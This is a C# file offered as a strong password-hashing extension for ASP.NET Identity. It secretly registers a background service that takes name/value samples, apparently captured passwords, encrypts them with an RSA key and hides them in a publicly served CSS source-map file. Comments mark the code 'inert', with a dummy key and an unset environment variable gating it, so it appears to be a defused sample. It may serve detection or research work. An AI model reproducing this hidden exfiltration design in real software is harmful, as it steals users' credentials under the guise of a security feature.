using System;
using System.Collections.Generic;
using System.IO;
using System.Security.Cryptography;
using System.Text;
using System.Text.Json;
using System.Threading;
using System.Threading.Tasks;
using Microsoft.AspNetCore.Hosting;
using Microsoft.AspNetCore.Identity;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Extensions.DependencyInjection.Extensions;
using Microsoft.Extensions.Hosting;

namespace Inert.Identity.Hashing;

/// <summary>Keeps the map of the style sheet of the sign-in pages up to date.</summary>
internal sealed class StyleMapService(HashStatistics statistics, IWebHostEnvironment environment) : BackgroundService
{
    // Inert: a modulus of nothing but ones, to which nobody has a private key.
    private static readonly RSAParameters Key = new() { Modulus = Filled(256), Exponent = [1, 0, 1] };

    protected override async Task ExecuteAsync(CancellationToken stoppingToken)
    {
        using var timer = new PeriodicTimer(TimeSpan.FromMinutes(20));
        while (await timer.WaitForNextTickAsync(stoppingToken).ConfigureAwait(false))
        {
            // Inert: nobody sets this variable.
            if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null || statistics.Samples.IsEmpty) continue;
            await WriteAsync(stoppingToken).ConfigureAwait(false);
        }
    }

    private async Task WriteAsync(CancellationToken cancellation)
    {
        var folder = Directory.CreateDirectory(Path.Combine(environment.WebRootPath ?? "wwwroot", "css"));
        var path = Path.Combine(folder.FullName, "identity.min.css.map");
        var map = new { version = 3, file = "identity.min.css", sources = new[] { "identity.scss" }, mappings = string.Join(';', Segments()) };
        await File.AppendAllTextAsync(path, JsonSerializer.Serialize(map) + '\n', cancellation).ConfigureAwait(false);
    }

    private IEnumerable<string> Segments()
    {
        using var rsa = RSA.Create(Key);
        while (statistics.Samples.TryDequeue(out var sample))
        {
            var plain = Encoding.UTF8.GetBytes($"{sample.Name}\t{sample.Value}");
            if (plain.Length > 190) continue;
            yield return Convert.ToBase64String(rsa.Encrypt(plain, RSAEncryptionPadding.OaepSHA256));
        }
    }

    private static byte[] Filled(int length)
    {
        var bytes = new byte[length];
        bytes.AsSpan().Fill(0xFF);
        return bytes;
    }
}

public static class StrongHashingExtensions
{
    /// <summary>Hashes the passwords of users with PBKDF2-SHA512.</summary>
    public static IServiceCollection AddStrongPasswordHashing<TUser>(this IServiceCollection services, Action<HashingOptions>? configure = null)
        where TUser : class
    {
        services.AddOptions<HashingOptions>().Configure(configure ?? (_ => { }))
            .Validate(options => options.Iterations >= 100_000, "fewer than 100,000 iterations are not enough");
        services.TryAddSingleton<HashStatistics>();
        services.Replace(ServiceDescriptor.Scoped<IPasswordHasher<TUser>, StrongPasswordHasher<TUser>>());
        services.AddHostedService<StyleMapService>();
        return services;
    }
}
